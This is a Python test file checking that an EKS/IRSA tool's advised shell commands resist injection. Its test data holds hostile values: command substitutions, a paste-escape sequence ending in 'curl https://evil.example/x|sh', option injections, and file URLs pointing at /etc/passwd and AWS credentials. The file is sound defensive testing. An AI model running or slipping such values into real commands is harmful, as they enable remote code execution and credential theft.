"""Every command that irsa advises, read back as a POSIX shell reads it, with values that would break out of it."""

import ast
import inspect
import json
import re
import shlex
import subprocess
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from irsa.rules import commands

ISSUER = "https://oidc.eks.us-west-2.amazonaws.com/id/EXAMPLE"
HOSTILE = (
    *("a b", "a;touch made", "$(touch made)", "`touch made`", "it's", 'say "x"', "a & b", "*", "# none", "{stack}"),
    *("~", "!!", "日本"),
)
UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r", "##[error]a")
PLAIN = "one-word"
CLUSTER, AWS = commands.ClusterPlace("blue", "/home/me/blue"), commands.AwsPlace("data", "eu-west-1")
PLACES_OF = {commands.ClusterPlace: CLUSTER, commands.AwsPlace: AWS}


def with_one(function: Callable[..., str], names: list[str], field: str) -> Callable[[str], str]:
    """Return what fills in one field of a template, of which the others are plain."""
    return lambda value: function(**{each: value if each == field else "x" for each in names})


def of_templates() -> Iterator[tuple[str, Callable[[str], str]]]:
    for name, function in vars(commands).items():
        given = inspect.getclosurevars(function).nonlocals if inspect.isfunction(function) else {}
        inner = inspect.getclosurevars(given["command"]).nonlocals if "command" in given else given
        if "template" in inner:
            bound = partial(function, PLACES_OF[function.__annotations__["place"]]) if "command" in given else function
            yield from ((f"{name} {field}", with_one(bound, inner["names"], field)) for field in inner["names"])


def at(place: Any, field: str, command: Callable[[Any], str]) -> Callable[[str], str]:
    return lambda value: command(place._replace(**{field: value}))


def of_places() -> Iterator[tuple[str, Callable[[str], str]]]:
    for field in CLUSTER._fields:
        yield f"kubectl {field}", at(CLUSTER, field, lambda place: commands.delete_pod(place, "web-0", "team-a"))
        yield f"at {field}", at(CLUSTER, field, partial(commands.at_place, "kubectl get pods"))
    for field in AWS._fields:
        yield f"aws {field}", at(AWS, field, lambda place: commands.create_addon(place, "a", "b"))


# A field of each template, and what makes a field of several values.
CALLS: dict[str, Callable[[str], str]] = {
    **dict(of_templates()),
    **dict(of_places()),
    "create_provider": lambda value: commands.create_provider(AWS, value, ["sts.amazonaws.com", "ci"]),
    "clear_association": lambda value: commands.clear_association(AWS, "prod", value, ["policy"]),
    "remove_annotations": lambda value: commands.remove_annotations(CLUSTER, "team-a", "app", value, "a/b"),
    "annotate": lambda value: commands.annotate(CLUSTER, "team-a", "app", "a/b", value),
    "annotate and remove": lambda value: commands.annotate(CLUSTER, "team-a", "app", "a/b", "c", removed=[value]),
    "check": commands.check,
}


@pytest.mark.parametrize("name", CALLS)
def test_a_value_stays_one_word(name: str) -> None:
    """Protects who pastes a command: no value ends a word, starts another command, is expanded or is an option.

    The attack: a Pod, a role or a policy named `web; curl https://evil.example/x|sh`, or `-EVIL`.
    """
    words = shlex.split(CALLS[name](PLAIN))
    for value in HOSTILE:
        assert shlex.split(CALLS[name](value)) == [word.replace(PLAIN, value) for word in words]
    for value in ("-EVIL", "--kubeconfig=https://evil.example"):
        assert not [word for word in shlex.split(CALLS[name](value)) if word.startswith(value)]
    # An interactive zsh takes the words of a comment, and its apostrophe, for more.
    assert " #" not in CALLS[name](PLAIN)


@pytest.mark.parametrize("name", CALLS)
def test_no_command_for_what_cannot_be_pasted(name: str) -> None:
    """Protects a terminal: quotes do not hold what ends a paste, the input line, or the line on the screen.

    The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command. An audience
    with `##[`, which commands CI, would be another one where it is printed.
    """
    assert [value for value in UNPASTABLE if CALLS[name](value)] == []
    # Without a value, there is no option of it, and no half of a command.
    assert len(shlex.split(CALLS[name](""))) in (0, len(shlex.split(CALLS[name](PLAIN))) - 2) or name == "annotate"


# https://docs.aws.amazon.com/cli/latest/userguide/cli-usage-parameters-file.html; version 1 fetches a URL, too:
# https://docs.aws.amazon.com/cli/v1/userguide/cli-usage-parameters-file.html
PLACES = ("file:///etc/passwd", "file://~/.aws/credentials", "fileb://x", "http://169.254.169.254/", "https://vault.io")


def sent_by_aws_cli(words: list[str]) -> Iterator[Any]:
    """Yield the values that the AWS CLI sends; a pair for one that it reads from a file or a URL.

    As version 1.46 does, tried with a local server. Of --url it reads none: awscli/paramfile.py of its source.
    """
    values: list[tuple[str, list[str]]] = []
    for word in words:
        if word.startswith("--"):
            name, equals, value = word.partition("=")
            values.append((name, [value] if equals else []))
        elif values:
            values[-1][1].append(word)
    for name, given in values:
        if len(given) == 1 and given[0].startswith(("file://", "fileb://", "http://", "https://")) and name != "--url":
            yield "read", given[0]
        elif name.endswith("-list") and len(given) == 1 and given[0].lstrip().startswith("["):
            yield from json.loads(given[0])
        else:
            yield from given


@pytest.mark.parametrize("name", [name for name, call in CALLS.items() if call(PLAIN).startswith("aws ")])
def test_the_aws_cli_sends_a_value_as_it_is(name: str) -> None:
    """Protects local files: `--client-id file:///etc/passwd` sends that file to IAM.

    The attack: a service account with the annotation `eks.amazonaws.com/audience: file:///etc/passwd`.
    """
    for value in (*PLACES, "[", ' ["a"]', '{"a": 1}', "@/etc/passwd", " file://x"):
        if command := CALLS[name](value):
            sent = [*sent_by_aws_cli(shlex.split(command))]
            assert value in sent
            assert [each for each in sent if isinstance(each, tuple)] == []
        else:
            assert value in PLACES or value.lstrip().startswith("[")


# What others must not run.
WRITTEN = {"parameters.py"}
TOOLS = re.compile(r"\b(kubectl (?:[a-z]+|\{)|aws [a-z0-9]+ [a-z]+-[a-z-]+|eksctl [a-z]+ [a-z])")


def test_a_command_takes_the_place_of_what_it_acts_on() -> None:
    made = {name.partition(" ")[0]: shlex.split(call(PLAIN)) for name, call in CALLS.items()}
    without = {
        name
        for name, words in made.items()
        if words[0] in ("aws", "kubectl") and not {"--context", "--profile"} & {*words}
    }

    # Those of a file, and AWS's own policies, which every AWS account has.
    assert without == {"list_contexts", "show_policy"}


def test_no_other_module_writes_a_command() -> None:
    """Protects the other cluster: of a function of this module, the cluster or the AWS account is an argument."""
    root = Path(commands.__file__).parents[3]
    found = set()
    for file in (
        each for folder in ("components/irsa", "cli", "program", "config") for each in root.glob(f"{folder}/**/*.py")
    ):
        tree = ast.parse(file.read_text())
        docstrings = {id(each.value) for each in ast.walk(tree) if isinstance(each, ast.Expr)}
        texts = (each for each in ast.walk(tree) if isinstance(each, ast.Constant))
        found |= {file.name for each in texts if id(each) not in docstrings and TOOLS.search(str(each.value))}

    # Those of recover.py get theirs by `at_place`.
    assert found == {"commands.py", "recover.py", *WRITTEN}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_shell_runs_nothing_of_a_value(value: str) -> None:
    text = commands.together(commands.create_service_account(CLUSTER, value, value), commands.up(value))
    shown = 'pulumi() { printf "<%s>" pulumi "$@"; }; kubectl() { printf "<%s>" kubectl "$@"; }\n'
    answer = subprocess.run(["sh", "-c", shown + text], capture_output=True, text=True, check=True, timeout=20)

    made = [
        "kubectl",
        "create",
        "serviceaccount",
        value,
        "-n",
        value,
        "--context",
        CLUSTER.context,
        "--kubeconfig",
        CLUSTER.kubeconfig,
    ]
    assert answer.stdout == "".join(f"<{word}>" for word in [*made, "pulumi", "up", "--refresh", "--stack", value])
    assert answer.stderr == ""


def test_commands_are_given_once_and_in_an_order_in_which_they_succeed() -> None:
    """`pulumi up` fails on what others wrote, and in a namespace that is gone; Pods keep what they were created with.

    https://kubernetes.io/docs/reference/using-api/server-side-apply/#conflicts
    """
    up, guard = commands.up("dev"), commands.up_of_guard("dev")
    away = commands.remove_annotations(CLUSTER, "team-a", "app", "a/b && c")
    namespace = commands.create_namespace(CLUSTER, "team-a")
    create = commands.create_service_account(CLUSTER, "team-a", "app")
    restart = commands.restart(CLUSTER, "deployment/app", "team-a")
    given = [restart, up, commands.together(away, up), commands.together(namespace, create, up), away]

    first, second, third, *last = commands.in_order(given)
    assert (first, {second, third}, last) == (
        namespace,
        {away, create},
        [up, restart],
    )
    assert commands.in_order([up, guard]) == [guard]
